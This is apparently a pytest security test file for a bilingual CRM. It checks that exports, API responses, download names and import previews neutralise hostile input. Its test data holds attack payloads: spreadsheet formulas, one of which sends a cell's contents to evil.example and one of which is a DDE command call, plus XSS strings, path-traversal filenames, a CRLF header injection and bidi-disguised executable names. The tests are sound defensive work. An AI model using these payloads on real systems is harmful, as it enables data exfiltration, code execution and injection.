"""Hostile text in what leaves the application as a file or as JSON, and in what
comes in as a file: CSV and XLSX exports neutralise formulas, the API answers
JSON that gives the text back unchanged, import previews show cells as text, and
download names lose their direction characters."""

from __future__ import annotations

import io
import json
from datetime import date, timedelta
from typing import Any

import pytest

from crm.extensions import db
from crm.imports.columns import FORMULA_START
from crm.security import BIDI_CONTROLS
from tests.conftest import TEST_PASSWORD, sign_in
from tests.fixtures.imports import csv_bytes, xlsx_bytes
from tests.security import dom
from tests.security.conftest import TODAY, World, use
from tests.security.files import cells, download
from tests.security.payloads import XSS_PAYLOADS, has_bidi

# Cells a spreadsheet would run: each must come out neutralised.
FORMULAS = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1,1)",
    '=HYPERLINK("http://evil.example/?"&A1,"open")',
    "=cmd|' /C calc'!A0",
    "'=1+1",
)
# Starting with a tab or a carriage return: the services trim those, so they are
# written straight into the rows (as a repair script or an old import might).
RAW_FORMULAS = ("\t=1+1", "\r=1+1", "\r\n@SUM(1)")


def formula_cells(rows: list[list[Any]]) -> list[Any]:
    return [c for row in rows for c in row if isinstance(c, str) and c.startswith(FORMULA_START)]


def xlsx_formulas(content: bytes) -> list[str]:
    from openpyxl import load_workbook

    book = load_workbook(io.BytesIO(content))
    return [
        f"{sheet.title}!{cell.coordinate}"
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type == "f"
    ]


def reauthenticate(client: Any) -> None:
    response = client.post("/reauthenticate", data={"password": TEST_PASSWORD, "next": "/"})
    assert response.status_code == 302


def check_download(response: Any, fmt: str) -> list[list[Any]]:
    assert response.status_code == 200, response.status_code
    disposition = response.headers["Content-Disposition"]
    assert disposition.startswith("attachment;"), disposition
    assert not any(ch in disposition for ch in (*BIDI_CONTROLS, "/", "\\", "\r", "\n")), disposition
    assert response.headers["X-Content-Type-Options"] == "nosniff"
    kind = response.headers["Content-Type"]
    assert ("text/csv" in kind) if fmt == "csv" else ("spreadsheetml" in kind), kind
    rows = cells(response)
    assert not formula_cells(rows), formula_cells(rows)
    if fmt == "xlsx":
        assert not xlsx_formulas(response.get_data())
    return rows


def flat(rows: list[list[Any]]) -> str:
    return "\n".join(str(c) for row in rows for c in row if c is not None)


@pytest.fixture
def formula_records(world: World) -> list[str]:
    """Records whose free text starts like a formula, in every exported kind."""
    from crm.engagements.services import create_engagement
    from crm.frameworks.services import create_framework
    from crm.partners.services import create_contact, create_partner

    for i, text in enumerate(FORMULAS):
        partner = create_partner(
            {"name_en": text, "name_ar": text, "acronym": text[:50], "type": "media"},
            actor=world.admin,
        )
        partner.city, partner.notes = RAW_FORMULAS[i % 3], RAW_FORMULAS[(i + 1) % 3]
        create_contact(partner, {"name_en": text, "role": text}, actor=world.admin)
        create_framework(
            {
                "title_en": text,
                "instrument": "mou",
                "status": "in_force",
                "signed_on": TODAY - timedelta(days=10),
                "purposes": text,
                "partner_ids": [partner.id],
            },
            actor=world.admin,
        )
        create_engagement(
            {
                "title_en": text,
                "category": "victims_survivors",
                "type": "consultation",
                "format": "online",
                "status": "held",
                "start_date": TODAY - timedelta(days=1),
                "city": text,
                "summary_en": text,
            },
            actor=world.viewer,
        )
    db.session.flush()
    return list(FORMULAS)


# --- list exports --------------------------------------------------------------------

LISTS = ("partners", "frameworks", "engagements", "contacts")


def test_list_exports_keep_hostile_text_as_inert_cells(app, client, world, formula_records):
    """Every list a focal point can export, as CSV and XLSX, in both languages:
    each payload comes back as the text it was, and no cell is a formula."""
    for language in ("en", "ar"):
        for fmt in ("csv", "xlsx"):
            _exports_in(app, client, world, formula_records, language, fmt)


def _exports_in(app: Any, client: Any, world: World, formulas: list[str], language: str, fmt: str):
    use(client, world.viewer, language)
    reauthenticate(client)
    expected = {
        "partners": [t for p in world.partners for t in world.shown("partner", p)],
        "frameworks": [t for f in world.frameworks for t in world.shown("framework", f)],
        "engagements": [t for e in world.engagements for t in world.shown("engagement", e)],
        "contacts": [t for c in world.contacts for t in world.shown("contact", c)],
    }
    for name in LISTS:
        rows = check_download(download(client, f"/exports/{name}", fmt), fmt)
        text = flat(rows)
        for value in expected[name]:
            assert value in text, (name, dom.visible_bidi(value))
        for formula in formulas:
            assert "'" + formula in text or "''" + formula.lstrip("'") in text, (name, formula)
    # the records behind a figure of the report
    from crm.reports.counting import ENGAGEMENTS, Period
    from crm.reports.views import records_url

    with app.test_request_context():
        records = records_url(
            f"{ENGAGEMENTS}.held_in_period", Period(TODAY - timedelta(days=30), TODAY)
        )
    url = "/exports/report?" + records.split("?", 1)[1]
    text = flat(check_download(download(client, url, fmt), fmt))
    assert world.shown("engagement", world.engagements[0])[0] in text, (language, fmt)


def test_the_report_export_is_inert(app, client, world, formula_records):
    """The published report (figures, labels, the period's name), in each format."""
    from crm.reports.counting import Period
    from crm.reports.views import period_args

    use(client, world.viewer, "ar")
    with app.test_request_context():
        args = period_args(Period(TODAY - timedelta(days=30), TODAY))
    page = client.get("/reports/", query_string=args)
    assert page.status_code == 200
    form = dom.form_with(page.get_data(as_text=True), "format")
    for fmt in ("csv", "xlsx", "json"):
        data = dom.as_multidict(form["fields"], format=fmt)
        response = client.post(form["attrs"]["action"], data=data)
        assert response.status_code == 200, fmt
        disposition = response.headers["Content-Disposition"]
        assert disposition.startswith("attachment;")
        assert not any(ch in disposition for ch in BIDI_CONTROLS)
        if fmt == "json":
            assert response.content_type.startswith("application/json")
            json.loads(response.get_data(as_text=True))
        else:
            rows = cells(response)
            assert rows and not formula_cells(rows)
            if fmt == "xlsx":
                assert not xlsx_formulas(response.get_data())


def test_a_cell_starting_with_tab_or_carriage_return_is_neutralised():
    from crm.exports import cell_value

    for raw in (*FORMULAS, *RAW_FORMULAS, "\t", "\r"):
        assert not str(cell_value(raw)).startswith(FORMULA_START), repr(raw)
        assert str(cell_value(raw)).lstrip("'") == raw.lstrip("'"), repr(raw)


# --- the JSON API --------------------------------------------------------------------


def _api(client: Any, secret: str, url: str, language: str) -> Any:
    response = client.get(
        url, headers={"Authorization": f"Bearer {secret}", "Accept-Language": language}
    )
    assert response.status_code == 200, (url, response.status_code)
    assert response.headers["Content-Type"] == "application/json", url
    assert response.headers["X-Content-Type-Options"] == "nosniff"
    return json.loads(response.get_data(as_text=True))


def test_the_api_gives_hostile_text_back_as_json_strings(client, world):
    for language in ("en", "ar"):
        _api_in(client, world, language)


def _api_in(client: Any, world: World, language: str) -> None:
    from crm.api.services import create_token

    _token, secret = create_token(world.viewer, {"name": "t", "scope": "read"}, actor=world.viewer)
    db.session.flush()
    fields = {
        "partners": ("partner", world.partners, ("name_en", "name_ar", "city")),
        "frameworks": ("framework", world.frameworks, ("title_en", "title_ar", "purposes")),
        "engagements": (
            "engagement",
            world.engagements,
            ("title_en", "title_ar", "city", "summary_en", "summary_ar", "outcomes_ar"),
        ),
    }
    for path, (kind, records, names) in fields.items():
        listed = _api(client, secret, f"/api/v1/{path}?limit=100", language)["items"]
        by_id = {item["id"]: item for item in listed}
        for record in records:
            text = world.shown(kind, record)[0]
            one = _api(client, secret, f"/api/v1/{path}/{record.id}", language)
            for name in names:
                assert one[name] == text, (path, name)
                assert by_id[record.id][name] == text, (path, name)
    for partner in world.partners + world.acronym_partners:
        one = _api(client, secret, f"/api/v1/partners/{partner.id}", language)
        assert one["acronym"] == world.shown("partner", partner)[-1]
    partner = world.partners[0]
    one = _api(client, secret, f"/api/v1/partners/{partner.id}", language)
    assert one["website"] == "https://example.org/?" + world.shown("partner", partner)[0]


def test_api_errors_quote_no_hostile_input_as_markup(client):
    """A 404 or a bad parameter answers JSON, whatever the address holds."""
    for url in (
        "/api/v1/partners/<script>alert(1)</script>",
        "/api/v1/partners?limit=<script>",
        "/api/v1/engagements?after=%22%3E%3Cimg%20src=x%3E",
    ):
        response = client.get(url, headers={"Authorization": "Bearer nothing"})
        assert response.headers["Content-Type"] == "application/json", url
        json.loads(response.get_data(as_text=True))


def test_a_signed_in_browser_cannot_write_through_the_api(client, make_user):
    """The API never reads the session cookie, so a cross-site form posting to it
    with the user's cookie does nothing (the API's answer to CSRF)."""
    sign_in(client, make_user(role="focal_point"))
    response = client.post(
        "/api/v1/engagements",
        data=json.dumps({"title_en": "x"}),
        content_type="application/json",
    )
    assert response.status_code == 401
    response = client.post("/api/v1/engagements", data={"title_en": "x"})
    assert response.status_code == 401


# --- downloads of framework documents ------------------------------------------------

PDF = b"%PDF-1.7\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n"
HOSTILE_NAMES = (
    "\u202egnp.exe.pdf",
    "abc\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069xyz.pdf",
    '"><img src=x onerror=alert(1)>.pdf',
    "../../../etc/passwd.pdf",
    "..\\..\\windows\\win.ini.pdf",
    "مذكرة \u2067تفاهم\u2069.pdf",
    "line\r\nX-Injected: 1.pdf",
    "{{7*'7'}}.pdf",
)


def test_document_names_are_clean_in_pages_and_downloads(client, world):
    for language in ("en", "ar"):
        _documents_in(client, world, language)


def _documents_in(client: Any, world: World, language: str) -> None:
    framework = world.frameworks[0 if language == "en" else 1]
    use(client, world.viewer, language)
    for name in HOSTILE_NAMES:
        response = client.post(
            f"/frameworks/{framework.id}/documents",
            data={"document": (io.BytesIO(PDF), name)},
            content_type="multipart/form-data",
        )
        assert response.status_code in (302, 303), (name, response.status_code)
    page = dom.assert_clean(
        client.get(f"/frameworks/{framework.id}").get_data(as_text=True), "framework page"
    )
    links = [
        n.attrs["href"]
        for n in page.find_all("a")
        if "/documents/" in n.attrs.get("href", "") and "/remove" not in n.attrs["href"]
    ]
    # (names the multipart parser cannot read arrive without a file, and are refused)
    from crm.frameworks.services import active_documents

    db.session.refresh(framework)
    assert len(links) == len(active_documents(framework)) >= len(HOSTILE_NAMES) - 2
    for link in links:
        response = client.get(link)
        response.close()
        assert response.status_code == 200
        disposition = response.headers["Content-Disposition"]
        assert disposition.startswith("attachment;")
        assert not any(ch in disposition for ch in BIDI_CONTROLS), dom.visible_bidi(disposition)
        assert not any(s in disposition for s in ("%E2%80%AE", "%E2%81%A6", "..", "/", "\\"))
        assert not any(s in disposition.upper() for s in ("%E2%80%A", "%E2%81%A"))
        assert "\r" not in disposition and "\n" not in disposition
        assert "X-Injected" not in response.headers
        assert response.headers["X-Content-Type-Options"] == "nosniff"
        assert response.headers["Content-Type"] == "application/pdf"


# --- imports -------------------------------------------------------------------------


def _upload(client: Any, kind: str, body: bytes, name: str) -> str:
    response = client.post(
        "/imports/",
        data={"kind": kind, "file": (io.BytesIO(body), name)},
        content_type="multipart/form-data",
    )
    assert response.status_code == 302, response.status_code
    return response.headers["Location"]


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
@pytest.mark.parametrize("language", ["en", "ar"])
def test_import_cells_are_text_in_the_preview_and_the_records(client, db, make_user, language, fmt):
    """Every payload in every text cell of an import file: the preview shows the
    cells as text, the import stores them as typed, and the result page is clean."""
    from sqlalchemy import select

    from crm.engagements.models import Engagement
    from crm.partners.models import Partner

    user = make_user(role="outreach")
    use(client, user, language)
    make = xlsx_bytes if fmt == "xlsx" else csv_bytes
    partner_header = ["ref", "name_en", "name_ar", "acronym", "type", "city", "notes"]
    partner_rows = [
        [f"P-X-{i:03d}", p, p, p, "syrian_cso", p, p] for i, p in enumerate(XSS_PAYLOADS)
    ]
    engagement_header = [
        "ref",
        "title_en",
        "title_ar",
        "category",
        "type",
        "format",
        "status",
        "start_date",
        "city",
        "summary_en",
        "summary_ar",
    ]
    day = str(date(2024, 3, 1))
    engagement_rows = [
        [f"E-X-{i:03d}", p, p, "victims_survivors", "consultation", "online", "held", day, p, p, p]
        for i, p in enumerate(XSS_PAYLOADS)
    ]
    imports = {
        "partners": (Partner, partner_header, partner_rows),
        "engagements": (Engagement, engagement_header, engagement_rows),
    }
    for kind, (model, header, rows) in imports.items():
        location = _upload(
            client, kind, make(header, rows), f'\u202e"><svg onload=alert(1)>{kind}.{fmt}'
        )
        preview = client.get(location)
        assert preview.status_code == 200
        page = dom.assert_clean(preview.get_data(as_text=True), f"{kind} preview")
        for payload in XSS_PAYLOADS:
            assert page.shows(payload), (kind, dom.visible_bidi(payload))
        assert not has_bidi(" ".join(t for t, _ in page.texts if "onload" in t))
        form = dom.forms(preview.get_data(as_text=True))
        confirm = next(f for f in form if f["attrs"].get("action", "").endswith("/confirm"))
        done = client.post(confirm["attrs"]["action"], data=dom.as_multidict(confirm["fields"]))
        assert done.status_code == 302
        result = client.get(location)
        dom.assert_clean(result.get_data(as_text=True), f"{kind} result")
        stored = db.session.execute(
            select(model).where(model.ref.in_([r[0] for r in rows]))
        ).scalars()
        by_ref = {r.ref: r for r in stored}
        assert len(by_ref) == len(rows), kind
        for row in rows:
            record = by_ref[row[0]]
            assert (record.name_en if kind == "partners" else record.title_en) == row[1]
            assert record.city == row[5 if kind == "partners" else 8]
